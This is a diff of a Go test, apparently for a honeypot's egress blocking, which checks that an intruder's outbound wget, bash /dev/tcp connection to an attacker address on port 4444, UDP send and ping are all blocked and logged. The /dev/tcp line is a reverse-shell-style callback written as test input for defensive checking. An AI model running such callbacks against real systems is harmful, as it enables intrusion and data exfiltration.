@@ -78,14 +78,15 @@ func noWayOut(t *testing.T, lan enginetest.LAN, d *daemontest.Daemon) {
 		`exec 2>/dev/null
 timeout 3 wget -q -t 1 -O - http://192.0.2.80/
 timeout 3 bash -c 'echo out > /dev/tcp/`+enginetest.AttackerAddr+`/4444'
-echo out > /dev/udp/192.0.2.53/53
+echo out > /dev/udp/192.0.2.53/53 && echo sent
+ping -n -c 1 -W 1 192.0.2.1
 id -u`)
-	if !strings.HasSuffix(out, "\n0\n") {
+	if !strings.Contains(out, "sent\n") || !strings.Contains(out, "1 packets transmitted, 0 received, 100% packet loss") || !strings.HasSuffix(out, "\n0\n") {
 		t.Fatalf("the intruder sees %q", out)
 	}
 	for _, want := range []string{
 		"protocol:tcp dst_ip:192.0.2.80 dst_port:80", "protocol:tcp dst_port:4444 dst_ip:" + enginetest.AttackerAddr,
-		"protocol:udp dst_ip:192.0.2.53 dst_port:53",
+		"protocol:udp dst_ip:192.0.2.53 dst_port:53", "protocol:icmp dst_ip:192.0.2.1",
 	} {
 		daemontest.WaitFor(t, want, func() bool { return len(d.Logs(t, "event:egress_blocked decky:gate "+want)) > 0 })
 	}
